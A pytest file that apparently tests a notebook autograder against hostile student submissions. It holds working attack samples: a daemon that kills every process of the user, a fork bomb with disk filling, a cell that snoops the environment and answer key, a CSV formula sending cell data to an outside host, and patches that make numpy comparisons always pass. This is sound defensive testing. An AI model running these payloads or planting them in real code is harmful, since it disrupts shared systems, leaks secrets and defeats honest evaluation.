"""Issue 19: submissions a red team wrote to crash, stall or fool the grader, or to harm a classmate.

One grading run grades every submission below beside honest classmates (the course's solutions), so each
hostile notebook is checked for what it scores *and* for what it does to the others; a second, short run
checks the per-notebook time budget. Each submission scores what an honest grader gives: 0 on the part it
attacks, full marks on its honest parts, and the classmates graded after it in the same run are unaffected.
Runtime: about three minutes on two cores.
"""
import csv
import json
import os
import re
import shutil
import time

import pytest

from grading_support import set_source, append_source, ROOT, EXERCISES, ASSIGNMENTS, load, grade_id, cell_by_id, source_nb  # noqa: F401  (puts exercises/ on sys.path)

from grading import course  # noqa: E402

TIMEOUT = 10
CANARY = "btg-canary-7f3a9"          # put in the grader's environment: no kernel may see it
SECRET = "root-only secret 91c2"      # in a root-only file a submission links to




_set, _append = set_source, append_source  # shared with the other grading tests (grading_support)


def _code(source, metadata=None, cell_id=None):
    return {"cell_type": "code", "execution_count": None, "id": cell_id or f"extra-{abs(hash(source)) % 10**8}",
            "metadata": metadata or {}, "outputs": [], "source": source}


def _write(nb, path):
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(nb, fh)


def outputs_text(nb):
    """Everything a graded notebook shows (outputs of every cell), as one string."""
    parts = []
    for c in nb["cells"]:
        for o in c.get("outputs", []):
            parts.append(json.dumps(o))
    return "\n".join(parts)


# ---------------------------------------------------------------------------------------------------
# The submissions
# ---------------------------------------------------------------------------------------------------

def careless_long_expressions_ch01():
    """Honest, with a 600-term sum in an answer and a 100 000-deep unary chain in a cell of its own."""
    nb = source_nb("ch01_definition")
    _append(nb, "gradient_f", "_careless = " + " + ".join(["1.0"] * 600) + "\n")
    nb["cells"].append(_code("x = " + "-" * 100_000 + "1\n"))
    nb["cells"].append(_code("y = " + " + ".join(["1"] * 100_000) + "\n"))
    return nb                                                      # 10


def private_attributes_and_gc_ch05():
    """Honest: a class with a private counter (self.__n) and a gc.collect()."""
    nb = source_nb("ch05_landscapes")
    _append(nb, "power", "import gc\n\nclass _Counter:\n    def __init__(self):\n        self.__n = 0\n\n"
                         "    def tick(self):\n        self.__n += 1\n        return self.__n\n\n"
                         "_c = _Counter()\n_c.tick()\ngc.collect()\n")
    return nb                                                      # 10


def stray_metadata_ch04():
    """Honest, but a cell wrongly marked as a grade cell, and a copy of a grade id on another cell."""
    nb = source_nb("ch04_optimization")
    nb["cells"].append(_code("print('scratch work')\n", {"nbgrader": {
        "grade": True, "grade_id": "bogus", "locked": False, "points": 5, "schema_version": 3,
        "solution": False, "task": False}}))
    nb["cells"].append(_code("z = 1\n", {"nbgrader": dict(cell_by_id(nb, "cg")["metadata"]["nbgrader"])}))
    return nb                                                      # 10


def generator_ch02():
    """Right minors, returned as a generator: the visible tests accept it, so must the grader."""
    nb = source_nb("ch02_curvature")
    src = "".join(cell_by_id(nb, "sylvester")["source"])
    src = src.replace("return [float(np.linalg.det(H[:k, :k])) for k in range(1, H.shape[0] + 1)]",
                      "return (float(np.linalg.det(H[:k, :k])) for k in range(1, H.shape[0] + 1))")
    assert "return (float" in src
    cell_by_id(nb, "sylvester")["source"] = src
    return nb                                                      # 10


def link_reader_ch02():
    """Honest, with links beside the notebook (dangling, to a device, to a root-only file) and a FIFO; a
    last cell tries to read them."""
    nb = source_nb("ch02_curvature")
    nb["cells"].append(_code("import os\nfor name in ('secret.txt', 'dangling.csv', 'zero', 'fifo'):\n"
                             "    print(name, os.path.exists(name))\n"
                             "print(open('secret.txt').read() if os.path.exists('secret.txt') else 'no secret')\n"))
    return nb                                                      # 10


def csv_injector_ch02():
    """classify raises an exception whose name is a spreadsheet formula."""
    nb = source_nb("ch02_curvature")
    _set(nb, "classify", "Formula = type('=HYPERLINK(\"http://example.invalid/?\"&A1)', (Exception,), {})\n\n"
                         "def classify(H, tol=1e-8):\n    if not np.any(H):\n        return 'inconclusive'\n"
                         "    raise Formula('click me')\n")
    return nb                                                      # 6: classify (4) 0


def flooder_ch03(fmt):
    """Honest, plus a cell that emits the grader's own MIME type (name built at run time) 300 times at 1 MB,
    outputs with 1 MB of metadata, and an error whose name is 1 MB long."""
    nb = source_nb("ch03_hvp")
    nb["cells"].append(_code(
        "from IPython.display import display\n"
        "mime = 'application/vnd.' + 'btg' + '.values+json'\n"
        "blob = 'x' * 1_000_000\n"
        "for i in range(300):\n    display({mime: {'nonce': 'n', 'values': blob}}, raw=True)\n"
        "for i in range(20):\n    display({'text/plain': 'small'}, metadata={'big': blob}, raw=True)\n"
        "raise type('E' * 1_000_000, (Exception,), {})('boom')\n"))
    return nb                                                      # 10


def snoop_ch03(paths):
    """Honest, plus a cell after the first test that prints the kernel's history, its environment and the
    line cache, and tries to read the answer key, the grading code and a classmate's original submission."""
    nb = source_nb("ch03_hvp")
    at = nb["cells"].index(cell_by_id(nb, "test_fd_hvp")) + 1
    nb["cells"].insert(at, _code(
        "import linecache, os, glob\n"
        f"for p in {paths!r} + glob.glob('/proc/*/cmdline'):\n"
        "    try:\n"
        "        with open(p, 'rb') as fh:\n"
        "            data = fh.read()\n"
        "        if not p.startswith('/proc'):\n"
        "            print('READ-OK', p, len(data))\n"
        "        else:\n"
        "            print('CMDLINE', data[:120].replace(b'\\0', b' ').decode(errors='replace').split(chr(10))[0])\n"
        "    except OSError as exc:\n"
        "        print('READ-FAILED', p, type(exc).__name__)\n"
        "import hvplib\nprint('HVPLIB', hvplib.__file__)\n"
        "print('ENVIRON', dict(os.environ))\n"
        "print('HISTORY', In[-1] if len(In) else '', '\\n'.join(In))\n"
        "print('LINECACHE', ''.join(''.join(v[2]) for v in list(linecache.cache.values())))\n"))
    return nb                                                      # 10


def threader_ch03():
    """fd_hvp hands the work to hvplib in another thread, where the in-kernel profiler of the hidden tests is
    blind; the rest is honest."""
    nb = source_nb("ch03_hvp")
    _set(nb, "fd_hvp", "from concurrent.futures import ThreadPoolExecutor\n_pool = ThreadPoolExecutor(1)\n\n"
                       "def _fd4(grad_f, x, v, eps):\n    x, v = np.asarray(x, dtype=float), np.asarray(v, dtype=float)\n"
                       "    e = 7.4e-4 * max(1.0, np.linalg.norm(x)) / max(np.linalg.norm(v), 1e-300) if eps is None else eps\n"
                       "    return (4 * hv.fd_hvp(grad_f, x, v, eps=e) - hv.fd_hvp(grad_f, x, v, eps=2 * e)) / 3\n\n"
                       "def fd_hvp(grad_f, x, v, eps=None):\n"
                       "    return _pool.submit(_fd4, grad_f, x, v, eps).result()\n")
    return nb                                                      # fd_hvp 0 (best ε and rop_hvp right)


def shadow_ch03():
    """A hvplib.py beside the notebook, whose hvp() is wrong so that the visible tests 'agree'."""
    return source_nb("ch03_hvp")                                   # 0: every part tampered


def helper_patcher_ch01():
    """A wrong gradient; helper.py (imported by the notebook) makes numpy's comparisons always agree."""
    nb = source_nb("ch01_definition")
    c = cell_by_id(nb, "gradient_f")
    c["source"] = "import helper\n" + "".join(c["source"]).replace("a * x * y * np.exp(y * z)", "0.0")
    return nb                                                      # 0: gradient fails, the rest tampered


DAEMON = r"""
import os, subprocess, sys
code = '''
import os, signal, time
os.setsid()
for where in ("/dev/shm/btg_daemon_was_here", "/tmp/btg_daemon_was_here"):
    try:
        open(where, "w").write("hello")
    except OSError:
        pass
time.sleep(1)
end = time.time() + 240
while time.time() < end:
    try:
        os.kill(-1, signal.SIGKILL)      # every process of this user: the next students' kernels
    except OSError:
        pass
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemon started")
"""


def daemon_ch04():
    """Honest, then a last cell that leaves a setsid daemon killing every process of the kernel user."""
    nb = source_nb("ch04_optimization")
    nb["cells"].append(_code(DAEMON))
    return nb                                                      # 10, and the next students unharmed


FORKER = r"""
import os, time
kids, refused = [], 0
for i in range(400):
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        break
    if pid == 0:
        try:
            hog = bytearray(8 * 2**20)
            time.sleep(60)
        finally:
            os._exit(0)
    kids.append(pid)
print("forked", len(kids), "refused", refused)
try:
    with open("big.bin", "wb") as fh:
        for _ in range(600):
            fh.write(b"\0" * 2**20)
    print("wrote 600 MB")
except OSError as exc:
    print("write stopped:", type(exc).__name__)
"""


def forker_ch05():
    """Honest, then a last cell that forks hundreds of memory-holding children and writes 600 MB."""
    nb = source_nb("ch05_landscapes")
    nb["cells"].append(_code(FORKER))
    return nb                                                      # 10, and the next students unharmed


def slow_ch01():
    """Gradient right and quick; then every answer cell dawdles, so the notebook runs out of its budget."""
    nb = source_nb("ch01_definition")
    for gid, seconds in (("hessian_f", 9), ("taylor", 9), ("errors", 20)):
        _append(nb, gid, f"import time\ntime.sleep({seconds})\n")
    return nb                                                      # 8: the last part never runs


# ---------------------------------------------------------------------------------------------------
# The runs
# ---------------------------------------------------------------------------------------------------

FULL = {a: sum(points for _, points in course.source_parts(a)[a]) for a in ASSIGNMENTS}
EXPECTED = {            # full marks, less what the attack costs (classify: 2 + 2 points, fd_hvp: 2 + 1 + 1)
    ("careless", "ch01_definition"): FULL["ch01_definition"], ("private", "ch05_landscapes"): FULL["ch05_landscapes"],
    ("stray", "ch04_optimization"): FULL["ch04_optimization"], ("generator", "ch02_curvature"): FULL["ch02_curvature"],
    ("links", "ch02_curvature"): FULL["ch02_curvature"], ("injector", "ch02_curvature"): FULL["ch02_curvature"] - 4,
    ("flooder", "ch03_hvp"): FULL["ch03_hvp"], ("snoop", "ch03_hvp"): FULL["ch03_hvp"], ("shadow", "ch03_hvp"): 0,
    ("threader", "ch03_hvp"): FULL["ch03_hvp"] - 4, ("helper", "ch01_definition"): 0,
    ("aaa_daemon", "ch04_optimization"): FULL["ch04_optimization"], ("aab_forker", "ch05_landscapes"): FULL["ch05_landscapes"],
    ("linked_nb", "ch03_hvp"): 0, ("linked_dir", "ch01_definition"): 0,
}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs = base / "submitted"
    for assignment in ASSIGNMENTS:                    # the honest classmates: graded after the hostile ones
        for student in ("solution", "zz_honest"):
            (subs / student / assignment).mkdir(parents=True)
            shutil.copy(EXERCISES / "source" / assignment / f"{assignment}.ipynb", subs / student / assignment)
    _write(careless_long_expressions_ch01(), subs / "careless" / "ch01_definition" / "ch01_definition.ipynb")
    _write(private_attributes_and_gc_ch05(), subs / "private" / "ch05_landscapes" / "ch05_landscapes.ipynb")
    _write(stray_metadata_ch04(), subs / "stray" / "ch04_optimization" / "ch04_optimization.ipynb")
    _write(generator_ch02(), subs / "generator" / "ch02_curvature" / "ch02_curvature.ipynb")
    links = subs / "links" / "ch02_curvature"
    _write(link_reader_ch02(), links / "ch02_curvature.ipynb")
    secret = base / "root_only.txt"
    secret.write_text(SECRET)
    os.chmod(secret, 0o600)
    os.symlink(secret, links / "secret.txt")
    os.symlink("/nonexistent/data.csv", links / "dangling.csv")
    os.symlink("/dev/zero", links / "zero")
    os.mkfifo(links / "fifo")
    _write(csv_injector_ch02(), subs / "injector" / "ch02_curvature" / "ch02_curvature.ipynb")
    _write(flooder_ch03(None), subs / "flooder" / "ch03_hvp" / "ch03_hvp.ipynb")
    paths = [str(EXERCISES / "source" / "ch03_hvp" / "ch03_hvp.ipynb"), str(EXERCISES / "grading" / "checks.py"),
             str(subs / "solution" / "ch03_hvp" / "ch03_hvp.ipynb"), str(ROOT / "hvplib" / "__init__.py")]
    _write(snoop_ch03(paths), subs / "snoop" / "ch03_hvp" / "ch03_hvp.ipynb")
    _write(threader_ch03(), subs / "threader" / "ch03_hvp" / "ch03_hvp.ipynb")
    _write(shadow_ch03(), subs / "shadow" / "ch03_hvp" / "ch03_hvp.ipynb")
    (subs / "shadow" / "ch03_hvp" / "hvplib.py").write_text(
        "import autograd\nimport numpy as np\n\ndef hvp(f, x, v):\n    return np.zeros_like(x)\n")
    _write(helper_patcher_ch01(), subs / "helper" / "ch01_definition" / "ch01_definition.ipynb")
    (subs / "helper" / "ch01_definition" / "helper.py").write_text(
        "import numpy\nnumpy.allclose = lambda *a, **k: True\nabs = lambda x: 0.0\n")
    _write(daemon_ch04(), subs / "aaa_daemon" / "ch04_optimization" / "ch04_optimization.ipynb")
    _write(forker_ch05(), subs / "aab_forker" / "ch05_landscapes" / "ch05_landscapes.ipynb")
    (subs / "linked_nb" / "ch03_hvp").mkdir(parents=True)
    os.symlink(EXERCISES / "source" / "ch03_hvp" / "ch03_hvp.ipynb", subs / "linked_nb" / "ch03_hvp" / "ch03_hvp.ipynb")
    (subs / "linked_dir").mkdir()
    os.symlink(EXERCISES / "source" / "ch01_definition", subs / "linked_dir" / "ch01_definition")

    keep, feedback, out = base / "course", base / "feedback", base / "grades.csv"
    messages = []
    os.environ["BTG_TEST_CANARY"] = CANARY
    start = time.monotonic()
    try:
        rows = course.grade(str(subs), out_csv=str(out), timeout=TIMEOUT, keep=str(keep), feedback_dir=str(feedback),
                            log=messages.append)
    finally:
        os.environ.pop("BTG_TEST_CANARY", None)
    return {"rows": rows, "course": keep, "feedback": feedback, "csv": out, "messages": messages,
            "elapsed": time.monotonic() - start, "subs": subs}


def parts(run, student, assignment):
    return {r.part: r for r in run["rows"] if r.student == student and r.assignment == assignment}


def graded_nb(run, student, assignment):
    return load(run["course"] / "autograded" / student / assignment / f"{assignment}.ipynb")


def sandboxed(run):
    return not any(m.startswith("WARNING: kernels run as the grader's own user") for m in run["messages"])


def test_every_submission_scores_what_an_honest_grader_gives(run):
    totals = course.totals(run["rows"])
    wrong = {key: (want, totals[key][0], [(r.part, r.status, r.feedback[:150]) for r in parts(run, *key).values()])
             for key, want in EXPECTED.items() if totals[key][0] != want}
    assert not wrong, wrong


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_honest_classmates_in_the_same_run_get_full_marks(run, assignment):
    for student in ("solution", "zz_honest"):
        rows = parts(run, student, assignment)
        assert rows and all((r.status, r.points) == ("passed", r.max_points) for r in rows.values()), \
            [(r.part, r.status, r.feedback) for r in rows.values()]
        assert all(r.tamper == "" for r in rows.values()), [r.tamper for r in rows.values()]


def test_careless_long_expressions_do_not_stop_grading_or_count_as_tampering(run):
    rows = parts(run, "careless", "ch01_definition")
    assert all(r.status == "passed" for r in rows.values())
    assert "hard:" not in rows["test_gradient_f"].tamper


def test_private_attributes_gc_and_stray_metadata_are_honest_work(run):
    for key in (("private", "ch05_landscapes"), ("stray", "ch04_optimization")):
        rows = parts(run, *key)
        assert all(r.status == "passed" for r in rows.values()), [(r.part, r.status, r.feedback) for r in rows.values()]
        assert "hard:" not in next(iter(rows.values())).tamper
    assert "nbgrader metadata of 2 cell(s) not in the source dropped" in parts(run, "stray", "ch04_optimization")[
        "test_cg"].tamper


def test_a_generator_of_right_values_passes_like_the_visible_tests(run):
    row = parts(run, "generator", "ch02_curvature")["test_sylvester"]
    assert (row.status, row.points) == ("passed", 2.0), row.feedback


def test_links_are_not_followed_and_special_files_not_read(run):
    rows = parts(run, "links", "ch02_curvature")
    assert all(r.status == "passed" for r in rows.values())
    note = rows["test_curvatures"].tamper
    for name in ("dangling.csv", "secret.txt", "zero"):
        assert f"left out: {name} (a symbolic link" in note, note
    assert "left out: fifo (not a regular file" in note
    assert SECRET not in outputs_text(graded_nb(run, "links", "ch02_curvature"))
    copied = run["course"] / "submitted" / "links" / "ch02_curvature"
    assert sorted(p.name for p in copied.iterdir()) == ["ch02_curvature.ipynb"]


def test_a_linked_notebook_or_folder_is_refused(run):
    for key in (("linked_nb", "ch03_hvp"), ("linked_dir", "ch01_definition")):
        rows = parts(run, *key)
        assert rows and all((r.status, r.points) == ("refused", 0) for r in rows.values()), rows
        assert "symbolic link" in next(iter(rows.values())).feedback


def test_csv_cells_cannot_hold_formulas(run):
    row = parts(run, "injector", "ch02_curvature")["test_classify"]
    assert row.points == 0 and row.feedback.startswith("=HYPERLINK")
    with open(run["csv"], newline="", encoding="utf-8") as fh:
        cells = [v for r in csv.DictReader(fh) for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@")], [v for v in cells if v[:1] in "=+-@"][:3]
    assert any(v.startswith("'=HYPERLINK") for v in cells)


def test_outputs_the_grader_does_not_count_are_capped(run):
    path = run["course"] / "autograded" / "flooder" / "ch03_hvp" / "ch03_hvp.ipynb"
    assert path.stat().st_size < 300_000, path.stat().st_size
    rows = parts(run, "flooder", "ch03_hvp")
    assert all(r.status == "passed" for r in rows.values())


def test_no_hidden_test_environment_or_answer_key_reaches_the_kernel_or_feedback(run):
    if not sandboxed(run):
        pytest.skip("no unprivileged kernel user here: the kernel runs as the grader")
    nb = graded_nb(run, "snoop", "ch03_hvp")
    shown = outputs_text(nb)
    assert "HISTORY" in shown and "ENVIRON" in shown and "LINECACHE" in shown      # the cell did run
    for secret in ("BEGIN HIDDEN TESTS", "_run_watched", "_btg_grader_check", "_calls_into", CANARY):
        assert secret not in shown, secret
    printed = "\n".join("".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", [])
                        if o.get("output_type") == "stream")
    lines = printed.splitlines()                 # (the cell's own source is echoed by In: only look at lines
    assert [l for l in lines if l.startswith("READ-OK ")] == []            # that the loop printed)
    assert len([l for l in lines if l.startswith("READ-FAILED ")]) == 4, printed[-2000:]
    assert not [l for l in lines if l.startswith("CMDLINE ") and ("nbgrader" in l or str(run["subs"]) in l)]
    assert [l for l in lines if l.startswith("HVPLIB ")][0].startswith("HVPLIB /var/lib/btg-grader/")
    rows = parts(run, "snoop", "ch03_hvp")
    assert all(r.status == "passed" for r in rows.values()), [(r.part, r.status, r.feedback) for r in rows.values()]
    html = "".join(p.read_text(encoding="utf-8", errors="replace")
                   for p in (run["feedback"] / "snoop" / "ch03_hvp").glob("*.html"))
    assert html and "_run_watched" not in html and "_btg_grader_check" not in html and CANARY not in html


def test_written_by_hand_is_decided_where_the_student_cannot_interfere(run):
    rows = parts(run, "threader", "ch03_hvp")
    fd = rows["test_fd_hvp"]
    assert (fd.status, fd.points) == ("failed", 0) and "another thread" in fd.feedback, fd.feedback
    assert [rows[p].status for p in ("test_best_eps", "test_rop_hvp")] == ["passed", "passed"]
    assert "hard:" not in fd.tamper                               # only soft notes: the decision is the re-run's
    nb = graded_nb(run, "solution", "ch03_hvp")
    shown = "".join("".join(o.get("text", "")) for o in cell_by_id(nb, "test_rop_hvp")["outputs"])
    assert "written by hand: checked in a fresh interpreter" in shown


def test_files_beside_the_notebook_are_scanned_and_cannot_shadow_modules(run):
    shadow = parts(run, "shadow", "ch03_hvp")
    assert all(r.points == 0 for r in shadow.values())
    assert "shadows the module 'hvplib'" in shadow["test_fd_hvp"].tamper
    assert all(r.status == "tampered" for r in shadow.values()), [(r.part, r.status) for r in shadow.values()]
    helper = parts(run, "helper", "ch01_definition")
    assert helper["test_gradient_f"].status == "failed"              # wrong, checked outside the kernel
    assert all(r.status == "tampered" for p, r in helper.items() if p != "test_gradient_f")
    assert "helper.py" in helper["test_hessian_f"].feedback and "numpy.allclose" in helper["test_hessian_f"].tamper


def test_a_daemon_or_fork_bomb_harms_only_its_own_notebook(run):
    if not sandboxed(run):
        pytest.skip("no unprivileged kernel user here: the kernel runs as the grader")
    for key in (("aaa_daemon", "ch04_optimization"), ("aab_forker", "ch05_landscapes")):
        rows = parts(run, *key)
        assert all(r.status == "passed" for r in rows.values()), [(r.part, r.status, r.feedback) for r in rows.values()]
    forker = outputs_text(graded_nb(run, "aab_forker", "ch05_landscapes"))
    forked = re.search(r"forked (\d+)", forker)
    if forked:                             # stopped by the process cap, and the file by the size cap
        assert int(forked.group(1)) < 200 and "wrote 600 MB" not in forker, forker[-500:]
    else:                                  # or the notebook's cgroup ended the whole tree: the kernel died
        assert "DeadKernelError" in forker, forker[-500:]
    # no kernel process of the run survives it (their homes were under the run's folder), no fresh user is
    # left, and no daemon note is left in the shared folders. Only this run's kernel folder is scanned (named in
    # its course's config): another grading run on the machine has live kernels of its own under the same base.
    config = (run["course"] / "nbgrader_config.py").read_text(encoding="utf-8")
    kernels = re.search(r"kernel_sandbox_base = '([^']+)'", config)
    assert kernels, "the run's config names no kernel folder"
    alive = []
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and os.readlink(f"/proc/{p}/cwd").startswith(kernels.group(1)):
                alive.append(p)
        except OSError:
            pass
    assert alive == []
    users = set(re.findall(r"kernel user (nbg-[0-9a-f]+)", (run["course"] / "grading.log").read_text()))
    assert users and not [u for u in users if u in open("/etc/passwd").read()]
    assert not os.path.exists("/dev/shm/btg_daemon_was_here") and not os.path.exists("/tmp/btg_daemon_was_here")


def test_hostile_report(run):
    """Print submission → expected → actual → time for the record."""
    log = (run["course"] / "grading.log").read_text(encoding="utf-8", errors="replace")
    times = {(m.group(1), m.group(2)): float(m.group(3))
             for m in re.finditer(r"\[btg\] graded ([\w-]+)/(\w+)/\w+ in ([\d.]+) s", log)}
    totals = course.totals(run["rows"])
    for key, want in sorted(EXPECTED.items()):
        print(f"{key[0]:>12} {key[1]:<18} expected {want:>3g}  actual {totals[key][0]:>3g}  "
              f"{times.get(key, 0):6.1f} s")
    print(f"whole run: {run['elapsed']:.0f} s")
    assert run["elapsed"] < 1200          # ~30 notebooks, each in its own nbgrader process, on two shared cores


# ---------------------------------------------------------------------------------------------------
# A notebook past its total budget costs only itself; a run that never finished is never "passed"
# ---------------------------------------------------------------------------------------------------

def test_a_slow_notebook_runs_out_of_its_budget_alone(tmp_path):
    subs = tmp_path / "subs"
    _write(slow_ch01(), subs / "slow" / "ch01_definition" / "ch01_definition.ipynb")
    _write(source_nb("ch01_definition"), subs / "zz_honest" / "ch01_definition" / "ch01_definition.ipynb")
    rows = course.grade(str(subs), timeout=25, keep=str(tmp_path / "course"), log=lambda *a: None,
                        notebook_budget=30)
    slow = {r.part: r for r in rows if r.student == "slow"}
    assert [slow[p].status for p in ("test_gradient_f", "test_hessian_f", "test_taylor")] == ["passed"] * 3, \
        [(r.part, r.status, r.feedback) for r in slow.values()]
    assert slow["test_errors"].status in ("not run", "timeout") and slow["test_errors"].points == 0
    assert "budget of 30 s" in slow["test_errors"].feedback
    assert sum(r.points for r in rows if r.student == "zz_honest") == 10


def test_a_notebook_that_never_finished_is_never_passed(tmp_path):
    """A copy in autograded/ without the executor's token (nbgrader was killed mid-notebook, or the
    submission forged a record) scores nothing, with the reason."""
    graded = {"cells": [{"cell_type": "code", "metadata": {"nbgrader": {"grade": True, "grade_id": "t",
                                                                         "solution": False}},
                         "outputs": [], "source": "pass"}]}
    done = tmp_path / "done"
    done.mkdir()
    run = course.Run(token="right", done_dir=str(done), exit_code=-1, budget=99)
    ran, why = course.ran_to_end(run, "nb")
    assert not ran and "budget of 99 s" in why
    (done / "nb.json").write_text(json.dumps({"token": "forged"}))
    run.exit_code = 0
    assert course.ran_to_end(run, "nb")[0] is False
    (done / "nb.json").write_text(json.dumps({"token": "right"}))
    assert course.ran_to_end(run, "nb") == (True, "")
    run.exit_code = 1                                              # finished, but nbgrader failed afterwards
    assert course.ran_to_end(run, "nb")[0] is False
    assert graded                                                  # (the cell above would read as "passed")
